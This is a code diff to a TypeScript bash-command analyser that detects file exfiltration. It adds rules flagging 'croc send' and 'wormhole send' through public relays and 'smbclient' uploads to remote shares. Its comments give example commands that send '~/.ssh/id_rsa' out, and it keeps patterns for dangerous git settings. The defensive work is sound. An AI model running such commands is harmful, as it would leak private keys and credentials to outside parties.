@@ -35,6 +35,9 @@ const GIT_COMMAND_SETTING = /^(?:core\.(?:fsmonitor|sshcommand|pager|editor|askp
 const GIT_BANG_SETTING = /^(?:alias\.[^.]+|credential(?:\.[^.]+)?\.helper)$/;
 /** `git config` options that take the next word as their value. */
 const GIT_CONFIG_VALUE_OPTION = /^(?:-f|--file|--blob|--type|--default|--comment)$/;
+/** Programs that send a file through a public relay to whoever holds the code they print. */
+const PEER_TRANSFER = /^(?:croc|wormhole|magic-wormhole)$/;
+const PEER_RELAY: Readonly<Record<string, string>> = { croc: 'croc.schollz.com', wormhole: 'relay.magic-wormhole.io', 'magic-wormhole': 'relay.magic-wormhole.io' };
 /** A backslash escape that double quotes remove (a backslash and a line break leave nothing). */
 const DOUBLE_QUOTED_ESCAPE = /\\(["\\$`]|\n)/g;
 /** tmux commands whose last operand is a shell command. */
@@ -550,6 +553,30 @@ export class BashWalker extends WalkerBase {
         }
       }
       if (program === 'tftp' || program === 'ftp' || program === 'lftp') return EMPTY;
+    }
+    // `croc send ~/.ssh/id_rsa`, `wormhole send …`: the file goes through a public relay to
+    // whoever holds the code the command prints.
+    if (PEER_TRANSFER.test(program) && texts[1] === 'send') {
+      const sink = this.recorder.sink('command', `\`${program} send\` through its public relay to whoever holds the code`, node.startIndex, node.endIndex, PEER_RELAY[program] ?? program);
+      for (const word of words.slice(2)) {
+        if ((word.value.text ?? '').startsWith('-')) continue;
+        this.reachSink(this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex), sink, 'payload');
+      }
+      return EMPTY;
+    }
+    // `smbclient //host/share -c 'put ~/.ssh/id_rsa k'`: each file a `put` names goes to the share.
+    if (program === 'smbclient') {
+      const share = texts.slice(1).map(unquote).find((text) => /^(?:\/\/|\\\\)[\w.-]+/.test(text));
+      const host = share?.replace(/^(?:\/\/|\\\\)([\w.-]+).*$/, '$1');
+      const commandsAt = texts.findIndex((text) => text === '-c' || text === '--command');
+      const commands = commandsAt > 0 ? words[commandsAt + 1]?.value.text : undefined;
+      if (host && !isLocalHost(host) && commands !== undefined) {
+        const sink = this.recorder.sink('command', `\`smbclient\` to ${host}`, node.startIndex, node.endIndex, host);
+        for (const put of commands.matchAll(/(?:^|;)[ \t]*m?put[ \t]+("[^"]+"|\S+)/g)) {
+          this.reachSink(this.recorder.readFile(unquote(put[1] ?? ''), node.startIndex, node.endIndex), sink, 'payload');
+        }
+      }
+      return EMPTY;
     }
     if (/^(?:scp|sftp|rsync)$/.test(program)) {
       const remote = texts.slice(1).find((text) => /^[^/\s]*@?[\w.-]+:/.test(text) && !/^[a-z]+:\/\//i.test(text));
